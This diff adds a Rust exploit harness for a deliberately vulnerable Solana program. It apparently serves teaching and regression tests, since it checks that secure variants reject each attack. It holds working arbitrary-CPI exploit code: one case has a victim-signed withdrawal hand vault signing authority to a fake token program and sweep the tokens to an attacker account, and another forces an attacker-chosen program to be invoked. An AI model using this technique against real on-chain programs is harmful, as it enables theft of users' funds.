@@ -0,0 +1,204 @@
+use arbitary_cpi_hack::PLAYER_SEED;
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    program_error::ProgramError,
+    pubkey,
+    pubkey::Pubkey,
+    signature::Keypair,
+    signer::Signer,
+    system_program,
+};
+
+use crate::{
+    anchor_discriminator, Env, Error, Exploit, Location, Program, Result, Severity, Variant,
+    ARBITARY_CPI, ARBITARY_CPI_HACK,
+};
+
+const VAULT_TOKENS: u64 = 1_000;
+
+// Stands in for an attacker's program, it only has to log that it was invoked
+const MEMO_PROGRAM_ID: Pubkey = pubkey!("MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr");
+
+/// The drain from `attackers/arbitary_cpi_hack`: a withdrawal the victim signs
+/// (say, built by a malicious frontend) passes the hack program as
+/// `token_program`. The vault hands it the vault PDA's signature, which it uses
+/// to take over the vault's token account, then sweeps it to the attacker.
+#[derive(Default)]
+pub struct DrainVault {
+    victim: Option<Keypair>,
+    mint: Pubkey,
+    vault_authority: Pubkey,
+    vault_token_account: Pubkey,
+    attacker_token_account: Pubkey,
+}
+
+impl Exploit for DrainVault {
+    fn name(&self) -> &'static str {
+        "arbitrary-cpi"
+    }
+
+    fn program(&self) -> Program {
+        ARBITARY_CPI
+    }
+
+    fn summary(&self) -> &'static str {
+        "drain the victim's vault through a fake token program"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::Critical
+    }
+
+    fn location(&self) -> Location {
+        Location {
+            instruction: "arbitary_cpi::process_instruction",
+            file: "programs/Arbitary_CPI/src/insecure.rs",
+            symbol: "process_instruction",
+        }
+    }
+
+    fn setup(&mut self, env: &mut Env) -> Result<()> {
+        env.load_attacker(&ARBITARY_CPI_HACK)?;
+
+        let victim = env.funded_keypair(LAMPORTS_PER_SOL);
+        self.mint = env.create_mint(6);
+        (self.vault_authority, _) =
+            Pubkey::find_program_address(&[b"vault", victim.pubkey().as_ref()], &ARBITARY_CPI.id);
+        self.vault_token_account = env.create_ata(&self.vault_authority, &self.mint);
+        env.mint_to(&self.mint, &self.vault_token_account, VAULT_TOKENS);
+        self.attacker_token_account = env.create_ata(&env.payer.pubkey(), &self.mint);
+        self.victim = Some(victim);
+        Ok(())
+    }
+
+    fn attack(&mut self, env: &mut Env) -> Result<()> {
+        let victim = self.victim.as_ref().expect("setup ran");
+
+        // Native vault withdrawal, any `amount` will do
+        let withdraw = Instruction::new_with_bytes(
+            ARBITARY_CPI.id,
+            &1u64.to_le_bytes(),
+            vec![
+                AccountMeta::new_readonly(ARBITARY_CPI_HACK.id, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new_readonly(victim.pubkey(), true),
+                AccountMeta::new_readonly(self.vault_authority, false),
+                AccountMeta::new(self.vault_token_account, false),
+                // the "user token account" slot smuggles the real token program to the hack program
+                AccountMeta::new(spl_token::id(), false),
+            ],
+        );
+        env.send(&[withdraw], &[victim])?;
+
+        let (player, _) = Pubkey::find_program_address(&[PLAYER_SEED], &ARBITARY_CPI_HACK.id);
+        let sweep = Instruction::new_with_bytes(
+            ARBITARY_CPI_HACK.id,
+            &[0],
+            vec![
+                AccountMeta::new(env.payer.pubkey(), true),
+                AccountMeta::new(player, false),
+                AccountMeta::new_readonly(system_program::id(), false),
+                AccountMeta::new_readonly(ARBITARY_CPI.id, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new(self.vault_token_account, false),
+                AccountMeta::new(self.attacker_token_account, false),
+                AccountMeta::new_readonly(spl_token::id(), false),
+            ],
+        );
+        env.send(&[sweep], &[])?;
+        Ok(())
+    }
+
+    fn assert_compromised(&self, env: &Env) -> Result<()> {
+        match env.token_balance(&self.attacker_token_account) {
+            VAULT_TOKENS => Ok(()),
+            stolen => Err(Error::NotCompromised(format!(
+                "attacker holds {stolen} of the vault's {VAULT_TOKENS} tokens"
+            ))),
+        }
+    }
+
+    fn expected_error(&self) -> Option<ProgramError> {
+        Some(ProgramError::IncorrectProgramId)
+    }
+}
+
+/// `insecure_transfer` CPIs into whatever `metadata_program` it is handed.
+#[derive(Default)]
+pub struct MetadataCpi {
+    source: Pubkey,
+    destination: Pubkey,
+    logs: Vec<String>,
+}
+
+impl Exploit for MetadataCpi {
+    fn name(&self) -> &'static str {
+        "arbitrary-cpi-metadata"
+    }
+
+    fn program(&self) -> Program {
+        ARBITARY_CPI
+    }
+
+    fn summary(&self) -> &'static str {
+        "get an attacker-chosen program invoked as the metadata program"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::High
+    }
+
+    fn location(&self) -> Location {
+        Location {
+            instruction: "insecure_program::insecure_transfer",
+            file: "programs/Arbitary_CPI/src/insecure.rs",
+            symbol: "insecure_transfer",
+        }
+    }
+
+    fn setup(&mut self, env: &mut Env) -> Result<()> {
+        let mint = env.create_mint(6);
+        self.source = env.create_ata(&env.payer.pubkey(), &mint);
+        self.destination = env.create_ata(&Pubkey::new_unique(), &mint);
+        env.mint_to(&mint, &self.source, 100);
+        Ok(())
+    }
+
+    fn attack(&mut self, env: &mut Env) -> Result<()> {
+        let instruction = match env.variant {
+            Variant::Insecure => "insecure_transfer",
+            Variant::Secure => "secure_transfer",
+        };
+        let mut data = anchor_discriminator(instruction).to_vec();
+        data.extend_from_slice(&40u64.to_le_bytes());
+        let ix = Instruction::new_with_bytes(
+            ARBITARY_CPI.id,
+            &data,
+            vec![
+                AccountMeta::new_readonly(spl_token::id(), false),
+                AccountMeta::new(self.source, false),
+                AccountMeta::new(self.destination, false),
+                AccountMeta::new_readonly(env.payer.pubkey(), true),
+                AccountMeta::new(MEMO_PROGRAM_ID, false),
+            ],
+        );
+        self.logs = env.send(&[ix], &[])?.logs;
+        Ok(())
+    }
+
+    fn assert_compromised(&self, _env: &Env) -> Result<()> {
+        let invoked = format!("Program {MEMO_PROGRAM_ID} invoke [2]");
+        if !self.logs.contains(&invoked) {
+            return Err(Error::NotCompromised(
+                "metadata program never invoked".into(),
+            ));
+        }
+        Ok(())
+    }
+
+    fn expected_error(&self) -> Option<ProgramError> {
+        // Anchor's `ConstraintAddress`
+        Some(ProgramError::Custom(2012))
+    }
+}